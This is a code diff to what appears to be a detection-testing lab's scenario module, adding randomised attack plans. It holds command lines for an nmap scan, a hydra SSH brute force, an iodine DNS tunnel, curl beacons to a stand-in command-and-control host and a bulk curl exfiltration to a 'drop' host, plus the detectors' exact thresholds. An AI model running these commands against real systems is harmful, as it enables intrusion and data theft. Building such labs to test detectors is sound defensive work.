@@ -5,6 +5,7 @@
 
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { Prng } from '../collector/flowgen/prng.js';
 import { type Cleanup, run, sleep, startDaemon, waitForOutput } from './proc.js';
 import { FILE_SERVER, type LabFiles, TUNNEL } from './services.js';
 import { INTERNET, type Namespaces, OFFICE_HOSTS, OFFICE_SUBNET } from './topology.js';
@@ -13,6 +14,64 @@ export const ATTACKS = ['scan', 'bruteforce', 'dns-tunnel', 'beacon', 'exfil'] a
 export type Attack = (typeof ATTACKS)[number];
 export type ScenarioName = Attack | 'benign';
 export const SCENARIO_NAMES: readonly ScenarioName[] = ['benign', ...ATTACKS];
+
+/**
+ * What a run plays, beyond which scenarios: the host each attack plays from, when it starts, and
+ * the knobs the detectors are sensitive to. `DEFAULT_PLAN` is the lab's fixed run; `randomPlan`
+ * varies every knob within what the lab's detectors are built to find (bench:detect -- --lab).
+ */
+export interface LabPlan {
+  /** The office workstation each attack plays from. */
+  attackers: Record<Attack, string>;
+  /** Seconds each attack waits before it starts. */
+  startDelaySecs: Record<Attack, number>;
+  /** The implant's sessions, their mean gap and its jitter (± share, uniform). */
+  beacon: { sessions: number; gapMs: number; jitter: number };
+  /** nmap's --top-ports. */
+  scanPorts: number;
+  /** Bytes uploaded by the exfiltration, and through the DNS tunnel. */
+  exfilBytes: number;
+  tunnelBytes: number;
+}
+
+export const WORKSTATIONS = OFFICE_HOSTS.filter((h) => h.role === 'workstation').map((h) => h.name);
+
+export const DEFAULT_PLAN: LabPlan = {
+  attackers: { scan: 'ws3', bruteforce: 'ws2', 'dns-tunnel': 'ws4', beacon: 'ws1', exfil: 'ws2' },
+  startDelaySecs: { scan: 0, bruteforce: 0, 'dns-tunnel': 0, beacon: 0, exfil: 0 },
+  beacon: { sessions: 13, gapMs: 11_000, jitter: 0.2 },
+  scanPorts: 100,
+  exfilBytes: 240 * 1024 * 1024,
+  tunnelBytes: 400 * 1024,
+};
+
+/**
+ * A plan drawn from `random`: any workstation for each attack, starts spread over 20 s, a beacon
+ * of 13–15 sessions 10.5–13 s apart with 0–20 % jitter (the detector wants ≥ 12 sessions, a
+ * median gap ≥ 10 s and a gap CV ≤ 0.25; ±20 % uniform is a CV of 0.12), nmap's top 60–200
+ * ports, 210–300 MiB exfiltrated (the detector's bound is 200 MiB) and 300–500 KiB through the
+ * tunnel (~1,600–2,800 questions; the bound is 200).
+ */
+export function randomPlan(random: () => number): LabPlan {
+  const pick = <T>(items: readonly T[]) => items[Math.floor(random() * items.length)];
+  const within = (min: number, max: number) => min + (max - min) * random();
+  const attackers = Object.fromEntries(ATTACKS.map((a) => [a, pick(WORKSTATIONS)])) as Record<Attack, string>;
+  const startDelaySecs = Object.fromEntries(ATTACKS.map((a) => [a, Math.round(within(0, 20))])) as Record<Attack, number>;
+  return {
+    attackers,
+    startDelaySecs,
+    beacon: { sessions: 13 + Math.floor(random() * 3), gapMs: Math.round(within(10_500, 13_000)), jitter: Math.round(within(0, 0.2) * 100) / 100 },
+    scanPorts: Math.round(within(60, 200)),
+    exfilBytes: Math.round(within(210, 300)) * 1024 * 1024,
+    tunnelBytes: Math.round(within(300, 500)) * 1024,
+  };
+}
+
+/** The random plan of a seed: its own stream, apart from the benign choices and the jitter. */
+export const randomPlanOf = (seed: number): LabPlan => {
+  const prng = Prng.from(seed).fork('plan');
+  return randomPlan(() => prng.next());
+};
 
 export interface Expected {
   detector: Attack;
@@ -29,12 +88,13 @@ export interface ScenarioContext {
   on(host: string, argv: string[], timeoutMs: number): Promise<{ code: number | null; stdout: string; stderr: string }>;
   log(line: string): void;
   random(): number;
+  plan: LabPlan;
 }
 
 interface Scenario {
   name: ScenarioName;
-  /** The investigation an attack should open; none for benign activity. */
-  expected?: Expected;
+  /** The investigation an attack should open (detector, destination); none for benign activity. */
+  opens?: { detector: Attack; destination: string };
   play(ctx: ScenarioContext): Promise<void>;
 }
 
@@ -52,10 +112,6 @@ const between = (ctx: ScenarioContext, min: number, max: number) => min + (max -
  */
 const UPLINK_RATE = '8M';
 
-/** Beacon: sessions of the implant, the mean gap and its jitter (± share, uniform). */
-export const BEACON = { sessions: 13, gapMs: 11_000, jitter: 0.2 };
-/** Exfiltration: bytes uploaded, above the detector's 200 MiB. */
-export const EXFIL_BYTES = 240 * 1024 * 1024;
 /**
  * hydra (libssh) tries about 4.5 passwords per ssh connection (sshd's MaxAuthTries is 6), and the
  * detector counts connections: measured here, 16 tasks made ~16 connections a minute and 32 tasks
@@ -64,8 +120,7 @@ export const EXFIL_BYTES = 240 * 1024 * 1024;
  */
 const HYDRA_PASSWORDS = 480;
 const HYDRA_TASKS = 32;
-/** Through the tunnel: ~1,100 questions per 200 KB measured here (iodine 0.7, NULL records, Base128). */
-const TUNNEL_UPLOAD_BYTES = 400 * 1024;
+/** Through the tunnel (LabPlan.tunnelBytes): ~1,100 questions per 200 KB measured here (iodine 0.7, NULL records, Base128). */
 const TUNNELED_SITE = INTERNET.sites[2];
 const TUNNEL_PINGS = 20;
 
@@ -91,37 +146,38 @@ const SCENARIOS: Scenario[] = [
   },
   {
     name: 'scan',
-    expected: { detector: 'scan', sourceHost: 'ws3', source: host('ws3').ip, destination: OFFICE_SUBNET },
+    opens: { detector: 'scan', destination: OFFICE_SUBNET },
     async play(ctx) {
-      await ctx.on('ws3', ['nmap', '-sS', '-T4', '-n', '--top-ports', '100', OFFICE_SUBNET], 120_000);
+      await ctx.on(ctx.plan.attackers.scan, ['nmap', '-sS', '-T4', '-n', '--top-ports', String(ctx.plan.scanPorts), OFFICE_SUBNET], 120_000);
     },
   },
   {
     name: 'bruteforce',
-    expected: { detector: 'bruteforce', sourceHost: 'ws2', source: host('ws2').ip, destination: FILE_SERVER.ip },
+    opens: { detector: 'bruteforce', destination: FILE_SERVER.ip },
     async play(ctx) {
       const words = join(ctx.files.dir, 'passwords.txt');
       writeFileSync(words, Array.from({ length: HYDRA_PASSWORDS }, (_, i) => `guess${i}`).join('\n') + '\n');
       // -I: no restore file from an earlier run; hydra writes it to its working directory.
-      await ctx.on('ws2', ['sh', '-c', `cd ${ctx.files.dir} && exec hydra -I -l admin -P ${words} -t ${HYDRA_TASKS} ssh://${FILE_SERVER.ip}`], 150_000);
+      await ctx.on(ctx.plan.attackers.bruteforce, ['sh', '-c', `cd ${ctx.files.dir} && exec hydra -I -l admin -P ${words} -t ${HYDRA_TASKS} ssh://${FILE_SERVER.ip}`], 150_000);
     },
   },
   {
     name: 'dns-tunnel',
-    expected: { detector: 'dns-tunnel', sourceHost: 'ws4', source: host('ws4').ip, destination: 'lab.example' },
+    opens: { detector: 'dns-tunnel', destination: 'lab.example' },
     async play(ctx) {
+      const ws = ctx.plan.attackers['dns-tunnel'];
       // -r: only through the resolver (no raw UDP straight to iodined), as a tunnel out of an
       // office whose only way out is its DNS server would go.
       const iodine = ctx.cleanup.daemon(
-        startDaemon('iodine', ['iodine', '-f', '-r', '-P', TUNNEL.password, INTERNET.dns.ip, INTERNET.tunnelDomain], { ns: ctx.names.hosts.ws4, logFile: join(ctx.files.dir, 'iodine.log') }),
+        startDaemon('iodine', ['iodine', '-f', '-r', '-P', TUNNEL.password, INTERNET.dns.ip, INTERNET.tunnelDomain], { ns: ctx.names.hosts[ws], logFile: join(ctx.files.dir, 'iodine.log') }),
       );
       try {
         await waitForOutput(iodine, /Connection setup complete/, 60_000);
         // The tunnel carries what a tunnel is for: a file sent to a site reached through it
-        // (a host route on ws4 only), then a while of pings.
-        await ctx.on('ws4', ['ip', 'route', 'add', `${TUNNELED_SITE.ip}/32`, 'via', TUNNEL.serverIp], 10_000);
-        await ctx.on('ws4', ['sh', '-c', `head -c ${TUNNEL_UPLOAD_BYTES} /dev/urandom | curl -sS --max-time 60 -o /dev/null -T - http://${TUNNELED_SITE.ip}/upload`], 70_000);
-        await ctx.on('ws4', ['ping', '-q', '-c', String(TUNNEL_PINGS), '-i', '0.5', '-s', '400', TUNNEL.serverIp], TUNNEL_PINGS * 1_000 + 30_000);
+        // (a host route on that workstation only), then a while of pings.
+        await ctx.on(ws, ['ip', 'route', 'add', `${TUNNELED_SITE.ip}/32`, 'via', TUNNEL.serverIp], 10_000);
+        await ctx.on(ws, ['sh', '-c', `head -c ${ctx.plan.tunnelBytes} /dev/urandom | curl -sS --max-time 60 -o /dev/null -T - http://${TUNNELED_SITE.ip}/upload`], 70_000);
+        await ctx.on(ws, ['ping', '-q', '-c', String(TUNNEL_PINGS), '-i', '0.5', '-s', '400', TUNNEL.serverIp], TUNNEL_PINGS * 1_000 + 30_000);
       } catch (error) {
         ctx.log(`dns-tunnel: ${(error as Error).message}`);
       } finally {
@@ -131,31 +187,45 @@ const SCENARIOS: Scenario[] = [
   },
   {
     name: 'beacon',
-    expected: { detector: 'beacon', sourceHost: 'ws1', source: host('ws1').ip, destination: INTERNET.c2.organization },
+    opens: { detector: 'beacon', destination: INTERNET.c2.organization },
     async play(ctx) {
-      for (let i = 0; i < BEACON.sessions; i++) {
-        if (i > 0) await sleep(BEACON.gapMs * (1 + BEACON.jitter * (2 * ctx.random() - 1)));
-        await ctx.on('ws1', curl(ctx.files, `https://${INTERNET.c2.name}/api/v2/poll?id=ws1`, '-d', `seq=${i}`), 30_000);
+      const { sessions, gapMs, jitter } = ctx.plan.beacon;
+      const ws = ctx.plan.attackers.beacon;
+      for (let i = 0; i < sessions; i++) {
+        if (i > 0) await sleep(gapMs * (1 + jitter * (2 * ctx.random() - 1)));
+        await ctx.on(ws, curl(ctx.files, `https://${INTERNET.c2.name}/api/v2/poll?id=${ws}`, '-d', `seq=${i}`), 30_000);
       }
     },
   },
   {
     name: 'exfil',
-    expected: { detector: 'exfil', sourceHost: 'ws2', source: host('ws2').ip, destination: INTERNET.drop.organization },
+    opens: { detector: 'exfil', destination: INTERNET.drop.organization },
     async play(ctx) {
-      await ctx.on('ws2', ['sh', '-c', `head -c ${EXFIL_BYTES} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-', '--limit-rate', UPLINK_RATE).join(' ')}`], 240_000);
+      await ctx.on(ctx.plan.attackers.exfil, ['sh', '-c', `head -c ${ctx.plan.exfilBytes} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-', '--limit-rate', UPLINK_RATE).join(' ')}`], 240_000);
     },
   },
 ];
 
-export const scenario = (name: ScenarioName): Scenario => SCENARIOS.find((s) => s.name === name)!;
+const scenario = (name: ScenarioName): Scenario => SCENARIOS.find((s) => s.name === name)!;
 
-/** Plays the chosen scenarios at once (each is on its own host, or on its own service). */
+/** The investigations the chosen scenarios should open under `plan`: one per attack. */
+export function expectedInvestigations(chosen: readonly ScenarioName[], plan: LabPlan): Expected[] {
+  return chosen.flatMap((name) => {
+    const opens = scenario(name).opens;
+    if (!opens) return [];
+    const sourceHost = plan.attackers[opens.detector];
+    return [{ ...opens, sourceHost, source: host(sourceHost).ip }];
+  });
+}
+
+/** Plays the chosen scenarios at once (each attack after its planned delay). */
 export async function playScenarios(chosen: readonly ScenarioName[], ctx: ScenarioContext): Promise<void> {
   await Promise.all(
     chosen.map(async (name) => {
+      const delaySecs = name === 'benign' ? 0 : ctx.plan.startDelaySecs[name];
+      if (delaySecs > 0) await sleep(delaySecs * 1_000);
       const started = Date.now();
-      ctx.log(`${name}: started`);
+      ctx.log(`${name}: started${name === 'benign' ? '' : ` on ${ctx.plan.attackers[name]}`}`);
       await scenario(name).play(ctx);
       ctx.log(`${name}: done in ${((Date.now() - started) / 1000).toFixed(1)} s`);
     }),
